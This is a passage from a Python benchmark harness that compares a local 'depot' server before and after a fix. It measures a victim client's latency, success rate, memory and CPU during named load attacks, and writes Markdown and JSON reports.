        f"**after**: `{args.after}`{' (' + args.after_note + ')' if args.after_note else ''}",
        f"- Each cell: a fresh server (default flags, empty data dir); the victim alone for "
        f"{args.baseline:g} s, then the victim and the attack for {args.duration:g} s "
        f"(large-delete: {max(args.duration, args.delete_window):g} s). Victim: its own client in "
        f"project `victim`, alternately GET one item and create one, 20 ms apart, one keep-alive "
        f"connection, {args.victim_timeout:g} s timeout (a timeout is a failure and counts as its "
        f"elapsed time in the percentiles). Victim numbers are of the attack window only. "
        f"Peak RSS = VmHWM over the server's life (bootstrap and setup included). "
        f"The harness kills a server past {args.rss_cap_mib} MiB RSS.",
        "",
        "| # | attack | victim 2xx before → after | victim p50 / p99 ms before → after | "
        "peak RSS MiB before → after | RSS at end MiB before → after | server CPU s before → after | "
        "the attack, before | the attack, after |",
        "|---|---|--:|--:|--:|--:|--:|---|---|",
    ]
    for n in names:
        b, a = by.get((n, "before"), {}), by.get((n, "after"), {})
        vb, va = b.get("victim_attack"), a.get("victim_attack")

        def pp(v):
            return f"{fmt_ms(v['p50_ms'])} / {fmt_ms(v['p99_ms'])}" if v else "–"

        def num(r, k):
            v = r.get(k)
            return "–" if v is None else f"{v:,.0f}"

        lines.append(
            f"| {ATTACKS[n][0]} | {n}: {ATTACKS[n][1]} | {fmt_pct(vb)} → {fmt_pct(va)} | {pp(vb)} → {pp(va)} | "
            f"{num(b, 'peak_rss_mib')} → {num(a, 'peak_rss_mib')} | {num(b, 'rss_end_mib')} → {num(a, 'rss_end_mib')} | "
            f"{b.get('server_cpu_s', '–')} → {a.get('server_cpu_s', '–')} | "
            f"{outcome(b) if b else '–'} | {outcome(a) if a else '–'} |")
    lines += ["", "Victim baselines (the same server, the seconds before the attack):", "",
              "| attack | build | victim 2xx | p50 / p99 ms | RSS before attack MiB |",
              "|---|---|--:|--:|--:|"]
    for n in names:
        for label in ("before", "after"):
            r = by.get((n, label))
            if not r or "victim_baseline" not in r:
                continue
            v = r["victim_baseline"]
            lines.append(f"| {n} | {label} | {fmt_pct(v)} | {fmt_ms(v['p50_ms'])} / {fmt_ms(v['p99_ms'])} | "
                         f"{r.get('rss_before_mib', '–')} |")
    lines += ["", "Victim failures during the attack, by status (timeout = no answer within "
              f"{args.victim_timeout:g} s):", ""]
    for n in names:
        for label in ("before", "after"):
            r = by.get((n, label))
            if r and r.get("victim_attack"):
                bad = {k: v for k, v in r["victim_attack"]["statuses"].items() if not k.startswith("2")}
                if bad:
                    lines.append(f"- {n}, {label}: " + ", ".join(f"{k}×{v}" for k, v in sorted(bad.items())))
    lines.append("")
    (out_dir / f"{args.name}.md").write_text("\n".join(lines))
    meta = {"started": started, "finished": finished, "command": args.command,
            "before": args.before, "after": args.after, "baseline_s": args.baseline,
            "duration_s": args.duration, "victim_timeout_s": args.victim_timeout,
            "machine": {"cpus": os.cpu_count(), "kernel": platform.release(), "load_at_end": load}}
    (out_dir / f"{args.name}.json").write_text(json.dumps({"meta": meta, "results": results}, indent=1) + "\n")


# ------------------------------------------------------------------ main ------------


async def main_async(args) -> None:
    work = Path(args.work)
    work.mkdir(parents=True, exist_ok=True)
    out_dir = Path(args.out)
    out_dir.mkdir(parents=True, exist_ok=True)
    names = args.attacks or list(ATTACKS)
    for n in names:
        if n not in ATTACKS:
            sys.exit(f"unknown attack {n} (known: {', '.join(ATTACKS)})")
    builds = [(label, b) for label, b in (("before", args.before), ("after", args.after)) if b]
    started = time.strftime("%Y-%m-%d %H:%M", time.gmtime())
    results = []
    for n in names:
        for label, binary in builds:
            t = time.monotonic()
            print(f"[attack {time.strftime('%H:%M:%S')}] {n} on {label} ...", file=sys.stderr, flush=True)
            r = await run_case(label, binary, n, args, work)
            results.append(r)
            va = r.get("victim_attack") or {}
            print(f"[attack {time.strftime('%H:%M:%S')}]   {time.monotonic() - t:.0f} s; victim {fmt_pct(va)}, "
                  f"p99 {fmt_ms(va.get('p99_ms'))} ms; peak RSS {r.get('peak_rss_mib')} MiB; {outcome(r)}",
                  file=sys.stderr, flush=True)
            write_report(results, args, out_dir, started, time.strftime("%Y-%m-%d %H:%M", time.gmtime()))
    print(f"[attack] wrote {out_dir / (args.name + '.md')} and .json", file=sys.stderr)


def main() -> None:
    if len(sys.argv) > 1 and sys.argv[1] == "victim":
        return victim_main(sys.argv[2:])
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--before", help="the depot binary from before the fix")
    p.add_argument("--after", help="the depot binary with the fix")
    p.add_argument("--before-note", default="")
    p.add_argument("--after-note", default="")
    p.add_argument("--duration", type=float, default=12.0, help="seconds of each attack (default 12)")
    p.add_argument("--baseline", type=float, default=3.0, help="seconds of victim alone first (default 3)")
    p.add_argument("--victim-timeout", type=float, default=2.0)
    p.add_argument("--chain-levels", type=int, default=21)
    p.add_argument("--delete-items", type=int, default=50_000)
    p.add_argument("--delete-window", type=float, default=25.0,
                   help="large-delete's window, if longer than --duration (default 25)")
    p.add_argument("--rss-cap-mib", type=int, default=4096)
    p.add_argument("--work", default="target/bench/attack")
    p.add_argument("--out", default="bench/results")
    p.add_argument("--name", default="attack", help="results file name (default attack)")
    p.add_argument("--keep", action="store_true", help="keep data dirs and whole logs")
    p.add_argument("--command", default="bench/attack/attack.py " + " ".join(sys.argv[1:]))
    p.add_argument("attacks", nargs="*", help=f"default: all ({', '.join(ATTACKS)})")
    args = p.parse_args()
    if not (args.before or args.after):
        p.error("give --before BIN and/or --after BIN")
    asyncio.run(main_async(args))


if __name__ == "__main__":
    main()
